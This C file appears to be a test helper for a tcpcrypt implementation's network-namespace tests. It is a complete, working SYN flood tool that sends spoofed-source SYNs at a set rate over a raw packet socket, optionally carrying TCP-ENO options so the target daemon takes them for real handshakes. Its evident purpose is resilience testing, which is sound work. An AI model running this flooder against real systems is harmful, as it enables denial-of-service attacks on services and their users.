// SPDX-License-Identifier: GPL-2.0
/*
 * synflood IFACE DST_MAC DST_IP DPORT RATE SECONDS [eno]
 *
 * An off-path attacker for the netns tests (issue 8, finding 3): sends SYNs
 * to DST_IP:DPORT from spoofed sources (random addresses of 10.200.0.0/16,
 * random ports and ISNs) at RATE per second for SECONDS, on IFACE through
 * AF_PACKET with PACKET_QDISC_BYPASS, in batches (sendmmsg). With "eno" each
 * SYN offers TCP-ENO as a tcpcrypt host would (option 69, TEPs X25519 and
 * P-256), so that the receiving tcpcryptd takes it for a real handshake.
 * Prints "sent N" at the end; exit 1 on a setup error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "engine/seg.h"

#define BATCH	64
#define FLEN	(14 + 20 + 20 + 24)

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + ts.tv_nsec;
}

/* A SYN like Linux's (MSS, SACK permitted, timestamps, window scale), + ENO. */
static void build(uint8_t *f, const uint8_t *mac, uint32_t dst, uint16_t dport, bool eno)
{
	static const uint8_t opts[40] = {
		2, 4, 0x05, 0xb4,		/* MSS 1460 */
		4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0,	/* SACK permitted, TS */
		1, 3, 3, 7,			/* NOP, window scale 7 */
		0x45, 0x04, 0x21, 0x23,		/* ENO: P-256, X25519 */
	};
	uint8_t *ip = f + 14, *th = ip + 20;
	uint32_t src = htonl(0x0ac80000 | (rnd() & 0xffff)), olen = eno ? 24 : 20;
	struct tc_seg g;

	memset(f, 0, FLEN);
	memcpy(f, mac, ETH_ALEN);
	f[6] = 0x02;			/* a locally administered source MAC */
	f[11] = 0x99;
	f[12] = 0x08;
	ip[0] = 0x45;
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	tc_put16(ip + 4, rnd());
	tc_put16(ip + 6, 0x4000);	/* DF */
	memcpy(ip + 12, &src, 4);
	memcpy(ip + 16, &dst, 4);
	tc_put16(ip + 2, 20 + 20 + olen);
	tc_put16(th, 1024 + rnd() % 60000);
	tc_put16(th + 2, dport);
	tc_put32(th + 4, rnd() << 16 | rnd());
	th[12] = (20 + olen) / 4 << 4;
	th[13] = 0x02;
	tc_put16(th + 14, 64240);
	tc_put16(ip + 10, ~tc_csum_fold(tc_csum_add(0, ip, 20)));
	memcpy(th + 20, opts, olen);
	tc_put32(th + 28, rnd());	/* TSval */
	if (tc_seg_parse(f, 14 + 40 + olen, &g) == TC_SEG_TCP)
		tc_seg_fill_tcp_csum(f, &g);
	else
		abort();	/* a bug here, not a frame to send */
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FLEN];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_ll sa = { .sll_family = AF_PACKET, .sll_halen = ETH_ALEN };
	unsigned int mac[6], rate, seconds, i;
	uint64_t sent = 0, start, end, t;
	uint8_t dmac[6];
	struct in_addr dst;
	bool eno;
	int fd, one = 1;

	if (argc < 7 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2],
			       &mac[3], &mac[4], &mac[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &dst) != 1) {
		fprintf(stderr, "usage: synflood IFACE DST_MAC DST_IP DPORT RATE SECONDS [eno]\n");
		return 1;
	}
	for (i = 0; i < 6; i++)
		dmac[i] = mac[i];
	rate = strtoul(argv[5], NULL, 0);
	seconds = strtoul(argv[6], NULL, 0);
	eno = argc > 7 && !strcmp(argv[7], "eno");
	rng ^= now_ns();
	sa.sll_ifindex = if_nametoindex(argv[1]);
	memcpy(sa.sll_addr, dmac, ETH_ALEN);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (!sa.sll_ifindex || fd < 0) {
		perror("synflood: socket");
		return 1;
	}
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	for (i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){ .iov_base = frames[i], .iov_len = FLEN - (eno ? 0 : 4) };
		msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &sa, .msg_namelen = sizeof(sa),
							 .msg_iov = &iov[i], .msg_iovlen = 1 } };
	}
	start = now_ns();
	end = start + seconds * 1000000000ull;
	while ((t = now_ns()) < end) {
		/* as many as the rate allows by now, in batches */
		uint64_t due = (t - start) * rate / 1000000000ull;
		int n, r;

		if (due <= sent) {
			struct timespec ts = { 0, 1000000 };

			nanosleep(&ts, NULL);
			continue;
		}
		n = due - sent > BATCH ? BATCH : (int)(due - sent);
		for (i = 0; i < (unsigned int)n; i++)
			build(frames[i], dmac, dst.s_addr, strtoul(argv[4], NULL, 0), eno);
		r = sendmmsg(fd, msgs, n, 0);
		if (r < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("synflood: sendmmsg");
			return 1;
		}
		sent += r > 0 ? r : 0;
	}
	printf("sent %llu\n", (unsigned long long)sent);
	close(fd);
	return 0;
}
